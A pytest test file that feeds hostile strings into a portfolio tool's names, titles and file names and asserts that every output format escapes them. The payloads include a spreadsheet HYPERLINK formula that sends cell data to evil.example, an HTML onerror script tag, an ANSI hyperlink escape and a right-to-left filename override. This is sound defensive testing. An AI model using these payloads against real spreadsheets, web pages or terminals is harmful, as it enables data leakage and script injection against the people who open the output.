"""Hostile names and texts through every output format: nothing reaches the output unescaped.

The corpus puts formula prefixes, HTML, Markdown links, rich markup, ANSI escapes,
BEL, NUL, DEL, C1 controls and a right-to-left override into a practitioner's
name, an entry's title, a front-matter key and a file name, then runs `imh check`,
`imh cohort`, `imh report`, `imh gaps` and `imh hours` in each format they offer.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from tests.conftest import Ran, Run, write_portfolio

#: Written with YAML's double-quoted escapes, so the file itself stays valid YAML.
HOSTILE_YAML = (
    r"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\") <img src=x onerror=alert(1)> "
    r"[link](http://evil.example) [bold red]markup[/] \e[31mred\a \0 \x7f \x9b \u202eevil"
)
HOSTILE_NAME = "@SUM(1+1) \x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \u202etxt.exe"
#: Characters that must never reach a terminal, a log or a CI system raw.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    portfolio_yaml = (
        "format: 1\nframework: imhcf-2019\nlevel: 2\n"
        f'practitioner:\n  name: "{HOSTILE_YAML}"\n  role: "{HOSTILE_YAML}"\n'
    )
    entry = (
        f'---\ntype: cpd\ntitle: "{HOSTILE_YAML}"\ndate: 2025-03-04\nhours: 2\n'
        f'activity: course\ncompetencies: ["1.04"]\n"{HOSTILE_YAML}": 1\n---\n\nBody.\n'
    )
    clean = '---\ntype: cpd\ntitle: "=1+1 <b>x</b>"\ndate: 2025-03-04\nhours: 2\n'
    clean += 'activity: course\ncompetencies: ["1.04"]\n---\n\nBody.\n'
    files = {"entries/a.md": entry, "entries/clean.md": clean, f"entries/{HOSTILE_NAME}.md": "x"}
    return write_portfolio(tmp_path / "p", files, portfolio_yaml=portfolio_yaml)


def _no_raw_controls(text: str, where: str) -> None:
    found = RAW_CONTROL.search(text)
    assert found is None, f"{where}: raw {found.group()!r} in output"


@pytest.mark.parametrize("fmt", ["text", "github", "junit", "json", "sarif"])
def test_check_formats(
    run: Run, hostile: Path, fmt: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    ran = run("check", hostile, "--format", fmt, "--no-cache", expect=1)
    if fmt not in {"json", "sarif"}:  # data formats keep the text; JSON escapes C0 itself
        _no_raw_controls(ran.stdout, f"check --format {fmt}")
    _no_raw_controls(ran.stderr, f"check --format {fmt} (stderr)")
    if fmt in {"json", "sarif"}:
        json.loads(ran.stdout)
    if fmt == "github":
        _markdown_is_inert(summary.read_text(encoding="utf-8"))
    if fmt == "text":
        assert r"\x1b" in ran.stdout  # the file name's ESC, shown as an escape


@pytest.mark.parametrize("fmt", ["text", "json", "csv", "html", "github", "sarif", "junit"])
def test_cohort_formats(
    run: Run, hostile: Path, fmt: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    ran = run("cohort", hostile, "--format", fmt, "--jobs", "1", "--no-cache", expect=1)
    out = ran.stdout
    if fmt not in {"json", "sarif"}:  # data formats keep the text; JSON escapes C0 itself
        _no_raw_controls(out, f"cohort --format {fmt}")
    _no_raw_controls(ran.stderr, f"cohort --format {fmt} (stderr)")
    if fmt in {"json", "sarif"}:
        json.loads(out)
    if fmt == "csv":
        _csv_is_inert(out)
    if fmt == "html":
        _html_is_inert(out)
    if fmt == "text":
        assert "[bold red]markup[/]" in out  # rich markup in a name is shown, not obeyed
    if fmt == "github":
        _markdown_is_inert(summary.read_text(encoding="utf-8"))


def test_report_escapes_html(run: Run, hostile: Path) -> None:
    page = run("report", hostile, "--as-of", "2026-01-01").stdout
    _html_is_inert(page)
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


@pytest.mark.parametrize(
    ("command", "fmt"), [("gaps", "csv"), ("hours", "csv"), ("gaps", "markdown")]
)
def test_tables(run: Run, hostile: Path, command: str, fmt: str) -> None:
    ran = run(command, hostile, "--format", fmt)
    _no_raw_controls(ran.stdout, f"{command} --format {fmt}")
    if fmt == "csv":
        _csv_is_inert(ran.stdout)


def test_excel_csv_starts_with_a_bom(run: Run, hostile: Path) -> None:
    out = run("cohort", hostile, "--format", "csv", "--excel", "--jobs", "1", expect=1).stdout
    assert out.startswith("\ufeffpath,")
    _csv_is_inert(out.removeprefix("\ufeff"))
    ran = run("hours", hostile, "--excel", expect=2)
    assert "--excel goes with --format csv" in ran.stderr


def _csv_is_inert(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA), f"formula cell {cell!r}"
            _no_raw_controls(cell, "csv cell")
    assert all(line.startswith('"') for line in text.splitlines()[1:] if line)


def _html_is_inert(page: str) -> None:
    _no_raw_controls(page, "HTML page")
    assert "<img" not in page and "onerror=alert" not in page.replace("onerror=alert(1)&gt;", "")
    assert '<a href="http://evil' not in page


def _markdown_is_inert(markdown: str) -> None:
    _no_raw_controls(markdown, "step summary")
    assert "<img" not in markdown
    assert "[link](http" not in markdown


def test_ran_shows_both_streams() -> None:
    """The helper's repr (shown when an assertion fails) has stdout and stderr."""
    assert "--- stderr ---" in repr(Ran(["check"], 1, "out", "err"))
